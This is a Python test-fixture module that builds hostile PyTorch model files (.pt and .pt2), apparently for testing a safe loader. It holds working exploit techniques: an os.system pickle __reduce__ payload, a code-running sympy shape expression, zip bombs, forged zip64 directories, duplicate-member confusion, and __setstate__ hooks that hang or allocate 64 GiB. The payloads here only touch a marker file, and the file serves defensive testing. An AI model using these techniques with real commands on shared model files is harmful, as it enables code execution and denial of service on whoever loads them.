"""Hostile saved models, crafted here (no binary is committed): each payload would create a marker file if anything
ran it. Every file starts as a real archive (``torch.jit.save`` / ``torch.export.save`` of a small model) and is
rewritten member by member, as an attacker would take any saved model and change it."""

from __future__ import annotations

import io
import json
import os
import pickle
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch
from torch import nn


class Payload:
    """Unpickled, runs ``touch MARKER`` (the classic: ``__reduce__`` returning ``os.system``)."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return os.system, (f"touch {self.marker}",)


def payload(marker: Path, protocol: int = 2) -> bytes:
    """A pickle that creates ``marker`` when unpickled (protocol 2 names ``os.system`` with ``GLOBAL``, 4 with
    ``STACK_GLOBAL``)."""
    return pickle.dumps(Payload(marker), protocol=protocol)


def torch_save_payload(marker: Path) -> bytes:
    """A ``torch.save`` zip (what ``torch.load`` reads) whose ``data.pkl`` is :func:`payload`."""
    buffer = io.BytesIO()
    torch.save(torch.ones(2), buffer)
    return rewrite_bytes(buffer.getvalue(), lambda name, data: payload(marker) if name.endswith("data.pkl") else data)


# -- zips -----------------------------------------------------------------------------------------------------------
Change = Callable[[str, bytes], bytes | None]


def rewrite_bytes(archive: bytes, change: Change, extra: dict[str, bytes] | None = None) -> bytes:
    """The zip ``archive`` with each member's data passed through ``change(name, data)`` (``None`` drops it), then
    ``extra`` members added (names relative to the archive's folder)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(archive)) as source, zipfile.ZipFile(out, "w") as target:
        prefix = source.namelist()[0].split("/", 1)[0]
        for info in source.infolist():
            data = change(info.filename, source.read(info))
            if data is not None:
                target.writestr(info.filename, data)
        for name, data in (extra or {}).items():
            target.writestr(f"{prefix}/{name}", data)
    return out.getvalue()


def rewrite(source: Path, target: Path, change: Change, extra: dict[str, bytes] | None = None) -> Path:
    target.write_bytes(rewrite_bytes(source.read_bytes(), change, extra))
    return target


def write_zip(
    path: Path, members: list[tuple[str, bytes]], raw: dict[str, tuple[bytes, int, int]] | None = None
) -> Path:
    """A zip written by hand: ``members`` stored; ``raw`` members (name -> raw deflate data, CRC-32, unpacked size)
    written as given, so that a bomb's directory can say what it inflates to without anything being inflated."""
    raw = raw or {}
    body = io.BytesIO()
    directory = io.BytesIO()
    entries = [(n, d, 0, zlib.crc32(d), len(d), len(d)) for n, d in members]
    entries += [(n, d, 8, crc, len(d), size) for n, (d, crc, size) in raw.items()]
    for name, data, method, crc, packed, size in entries:
        offset = body.tell()
        encoded = name.encode()
        body.write(struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, method, 0, 0, crc, packed, size, len(encoded), 0))
        body.write(encoded + data)
        directory.write(
            struct.pack(
                "<4sHHHHHHIIIHHHHHII",
                *(b"PK\x01\x02", 20, 20, 0, method, 0, 0, crc, packed, size, len(encoded), 0, 0, 0, 0, 0, offset),
            )
            + encoded
        )
    start = body.tell()
    central = directory.getvalue()
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(central), start, 0)
    path.write_bytes(body.getvalue() + central + end)
    return path


def deflate_bomb(head: bytes, filler: bytes = b" ", mebibytes: int = 1024) -> tuple[bytes, int, int]:
    """Raw deflate data of ``head`` then ``mebibytes`` MiB of ``filler``, made without compressing them: each MiB
    is the same full-flushed block, repeated (about 1 KiB per MiB). Returns (data, CRC-32, unpacked size)."""
    block = filler * 2**20
    first = zlib.compressobj(9, zlib.DEFLATED, -15)
    start = first.compress(head) + first.flush(zlib.Z_FULL_FLUSH)
    one = zlib.compressobj(9, zlib.DEFLATED, -15)
    repeated = one.compress(block) + one.flush(zlib.Z_FULL_FLUSH)
    end = zlib.compressobj(9, zlib.DEFLATED, -15).flush(zlib.Z_FINISH)
    crc = zlib.crc32(head)
    for _ in range(mebibytes):
        crc = zlib.crc32(block, crc)
    return start + repeated * mebibytes + end, crc, len(head) + len(block) * mebibytes


def members(path: Path) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(path) as z:
        return [(i.filename, z.read(i)) for i in z.infolist()]


# -- the models the hostile files start from -------------------------------------------------------------------------
class WithConstant(nn.Module):
    """A module with a weight, a tensor constant (not a parameter nor a buffer) and a batch size export keeps
    dynamic: every place of a .pt2 an attacker writes to."""

    def __init__(self) -> None:
        super().__init__()
        self.fc = nn.Linear(3, 3)
        self.k = torch.ones(3)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.fc(x) + self.k


def exported(path: Path) -> Path:
    batch = torch.export.Dim("batch", min=2, max=64)
    program = torch.export.export(WithConstant(), (torch.randn(4, 3),), dynamic_shapes=({0: batch},))
    torch.export.save(program, str(path))
    return path


def traced(path: Path) -> Path:
    with torch.no_grad():
        torch.jit.save(torch.jit.trace(WithConstant().eval(), (torch.randn(4, 3),)), str(path))
    return path


# -- hostile .pt2 files --------------------------------------------------------------------------------------------
def _constants_config(name: str) -> bool:
    return name.endswith("data/constants/model_constants_config.json")


def constant_as(base: Path, target: Path, path_name: str, data: bytes, use_pickle: bool = True) -> Path:
    """``base`` with its tensor constant ``k`` pointed at a member ``path_name`` holding ``data`` (the issue's
    attack: ``opaque_obj_0`` is unpickled with ``pickle.loads``, also with ``use_pickle`` false and a uint8
    ``tensor_meta``)."""

    def change(name: str, content: bytes) -> bytes:
        if not _constants_config(name):
            return content
        config = json.loads(content)
        entry = config["config"]["k"]
        entry["path_name"], entry["use_pickle"] = path_name, use_pickle
        if not use_pickle:
            entry["tensor_meta"]["dtype"] = 1  # uint8: the bytes of a pickle
        return json.dumps(config).encode()

    return rewrite(base, target, change, {f"data/constants/{path_name}": data})


def weight_as_pickle(base: Path, target: Path, data: bytes) -> Path:
    """``base`` with its first weight marked ``use_pickle`` (read with ``torch.load(weights_only=False)``) and
    pointing at ``data``."""

    def change(name: str, content: bytes) -> bytes:
        if not name.endswith("data/weights/model_weights_config.json"):
            return content
        config = json.loads(content)
        entry = next(iter(config["config"].values()))
        entry["path_name"], entry["use_pickle"] = "weight_evil", True
        return json.dumps(config).encode()

    return rewrite(base, target, change, {"data/weights/weight_evil": data})


def sample_inputs_as(base: Path, target: Path, data: bytes) -> Path:
    """``base`` with its sample inputs (``torch.load`` ed, falling back to ``weights_only=False``) replaced."""
    return rewrite(base, target, lambda name, content: data if "data/sample_inputs/" in name else content)


def legacy_weights(base: Path, target: Path, data: bytes) -> Path:
    """``base`` with a legacy weights file (``data/weights/model.pt``, read before the config) holding ``data``."""
    return rewrite(base, target, lambda name, content: content, {"data/weights/model.pt": data})


def expression(base: Path, target: Path, marker: Path) -> Path:
    """``base`` with a shape expression that runs code when ``sympy.sympify`` reads it (torch's deserializer
    does, for every symbolic size)."""
    code = f"__import__('os').system('touch {marker}')"

    def change(name: str, content: bytes) -> bytes:
        if not name.endswith("models/model.json"):
            return content
        text, count = re.subn(r'"expr_str": "[^"]*"', json.dumps({"expr_str": code})[1:-1], content.decode(), count=1)
        assert count == 1, "the program has no symbolic size"
        return text.encode()

    return rewrite(base, target, change)


def compiled(base: Path, target: Path) -> Path:
    """``base`` with an AOTInductor package (a shared library torch.export.load would load and so run)."""
    return rewrite(
        base, target, lambda name, content: content, {"data/aotinductor/model/model.so": b"\x7fELF" + b"\0" * 60}
    )


def program_bomb(base: Path, target: Path, mebibytes: int = 1024) -> Path:
    """``base`` whose program JSON is padded with ``mebibytes`` MiB of spaces, deflated: about 1 KiB a MiB (the
    issue's 2.4 GB ``tj.load``)."""
    found = members(base)
    program = next(n for n, _ in found if n.endswith("models/model.json"))
    head = dict(found)[program]
    return write_zip(target, [(n, d) for n, d in found if n != program], {program: deflate_bomb(head, b" ", mebibytes)})


# -- hostile .pt files ----------------------------------------------------------------------------------------------
def pickle_member(base: Path, target: Path, member: str, data: bytes) -> Path:
    """``base`` (a TorchScript archive) with its ``member`` (``data.pkl``, ``constants.pkl``,
    ``traced_inputs.pkl``) replaced."""
    return rewrite(base, target, lambda name, content: data if name.endswith(f"/{member}") else content)


class PrintsAtLoad(nn.Module):
    """A scripted module whose ``__setstate__`` (run by ``torch.jit.load``) prints."""

    def __init__(self) -> None:
        super().__init__()
        self.x = 1

    @torch.jit.export
    def __getstate__(self) -> tuple[int, bool]:
        return (self.x, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[int, bool]) -> None:
        print("__setstate__ ran")
        self.x = state[0]
        self.training = state[1]

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x + self.x


class LoopsAtLoad(PrintsAtLoad):
    """``__setstate__`` never returns (Ctrl-C would not stop it: torch's C++ runs it)."""

    @torch.jit.export
    def __setstate__(self, state: tuple[int, bool]) -> None:
        i = 0
        while i >= 0:
            i = i + 1
        self.x = state[0]
        self.training = state[1]


class AllocatesAtLoad(PrintsAtLoad):
    """``__setstate__`` asks for 64 GiB."""

    @torch.jit.export
    def __setstate__(self, state: tuple[int, bool]) -> None:
        self.x = int(torch.empty([17179869184], dtype=torch.float32).numel()) + state[0]
        self.training = state[1]


def scripted(module: nn.Module, path: Path) -> Path:
    torch.jit.save(torch.jit.script(module), str(path))
    return path


def two_folders(benign: Path, hostile: Path, target: Path) -> Path:
    """A zip with ``hostile``'s folder first (what torch reads) and ``benign``'s after."""
    renamed = [(f"evil{n[n.index('/') :]}", d) for n, d in members(hostile)]
    return write_zip(target, renamed + members(benign))


def named_twice(base: Path, target: Path, member: str, data: bytes) -> Path:
    """``base`` with a second ``member`` (readers disagree on which one counts)."""
    found = members(base)
    name = next(n for n, _ in found if n.endswith(f"/{member}"))
    return write_zip(target, [*found, (name, data)])


def many_members(target: Path, count: int = 10_000_000) -> Path:
    """A tiny zip whose directory says it lists ``count`` members (zip64 end records)."""
    head = b"PK\x03\x04" + b"\0" * 26
    start = len(head)
    zip64_end = struct.pack("<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, 0, start)
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, start, 1)
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0xFFFF, 0xFFFF, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    target.write_bytes(head + zip64_end + locator + end)
    return target
